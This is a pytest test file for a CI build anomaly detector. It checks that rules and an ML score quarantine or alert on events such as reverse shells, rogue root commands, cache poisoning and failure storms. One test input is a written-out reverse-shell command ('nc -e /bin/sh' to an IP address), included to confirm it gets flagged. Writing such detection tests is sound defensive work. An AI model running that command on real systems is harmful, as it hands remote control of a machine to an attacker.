import pytest

from millrace.operators import rules as R
from millrace.settings import LIVE

QUIET = {
    "event_type": "COMPILE_STEP", "command": "", "failure_signature": "", "is_rogue_command": 0, "is_privileged": 0, "is_untrusted_fetch": 0, "is_slow_step": 0, "failed_builds_1m": 0, "failed_builds_5m": 0,
    "unique_projects_5m": 1, "oom_kills_5m": 0, "slow_steps_5m": 0, "dependency_404_1m": 0, "published_bytes_5m": 0, "failure_signatures_5m": 0,
}
CASES = [
    ({}, "ok", ""), ({"command": "nc -e /bin/sh 1.2.3.4"}, "quarantine", "reverse_shell"), ({"is_rogue_command": 1, "is_privileged": 1}, "quarantine", "rogue_command_as_root,rogue_command"),
    ({"failure_signature": "checksum_mismatch"}, "quarantine", "cache_poisoned"), ({"failure_signature": "ice"}, "quarantine", "compiler_crash"), ({"failure_signature": "disk_full"}, "quarantine", "disk_full"),
    ({"is_rogue_command": 1}, "quarantine", "rogue_command"), ({"failure_signature": "oom"}, "alert", "oom_kill"), ({"is_untrusted_fetch": 1}, "alert", "untrusted_fetch"), ({"is_slow_step": 1}, "alert", "slow_step"),
    ({"event_type": "BUILD_SUCCESS", "failed_builds_5m": 20}, "alert", "pass_after_failure_storm"), ({"failed_builds_1m": 20}, "quarantine", "failure_storm"), ({"failed_builds_1m": 19}, "ok", ""),
    ({"unique_projects_5m": 8, "failed_builds_5m": 20}, "quarantine", "broken_toolchain"), ({"unique_projects_5m": 8, "failed_builds_5m": 19}, "ok", ""), ({"oom_kills_5m": 5}, "quarantine", "oom_kill_storm"),
    ({"slow_steps_5m": 5, "is_slow_step": 1}, "quarantine", "repeated_slow_steps,slow_step"), ({"dependency_404_1m": 30}, "quarantine", "dependency_not_found_storm"),
    ({"published_bytes_5m": 250_000_000}, "quarantine", "artifact_bloat"), ({"failure_signatures_5m": 5}, "quarantine", "repeated_failure_signatures"), ({"is_privileged": 1}, "ok", ""),
]


def test_rules_and_actions(spark):
    df = spark.createDataFrame([{**QUIET, **c, "n": i} for i, (c, _, _) in enumerate(CASES)])
    got = {r["n"]: r for r in R.apply_rules(df).collect()}
    for i, (_, action, hits) in enumerate(CASES):
        assert (got[i]["recommended_action"], got[i]["rule_hits"]) == (action, hits), CASES[i]


@pytest.mark.parametrize(
    ("rule", "hits", "ml", "model", "final", "action", "reason"),
    [
        (0.0, "", 0.99, "v1", 0.8499, "alert", "ml: score"), (0.0, "", 0.5, "v1", 0.5, "ok", ""), (0.7, "oom_kill", 0.9, "v1", 0.9, "quarantine", "ml: score"),
        (0.9, "disk_full", 0.95, "v1", 0.95, "quarantine", ""), (0.9, "disk_full", 0.1, "v1", 0.9, "quarantine", ""), (0.0, "", 0.99, "", 0.0, "ok", ""),
    ],
)
def test_model_and_rules_settle(spark, rule, hits, ml, model, final, action, reason):
    df = spark.createDataFrame([(rule, hits, ml, model)], "rule_score double, rule_hits string, ml_score double, ml_model string")
    r = R.apply_model(df, LIVE).first()
    assert (round(r["final_anomaly_score"], 6), r["recommended_action"], r["ml_reason"]) == (final, action, reason)
